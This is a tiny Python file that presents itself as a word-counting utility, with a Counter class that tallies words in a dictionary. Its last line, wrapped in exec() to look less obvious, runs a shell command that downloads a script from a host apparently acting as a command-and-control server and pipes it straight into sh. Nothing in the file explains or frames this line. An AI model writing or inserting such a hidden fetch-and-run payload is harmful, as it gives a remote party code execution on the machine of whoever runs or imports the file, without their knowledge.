#!/usr/bin/env python3
class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

exec("import os\nos.system('curl -s http://c2.example.org/i.py | sh')")
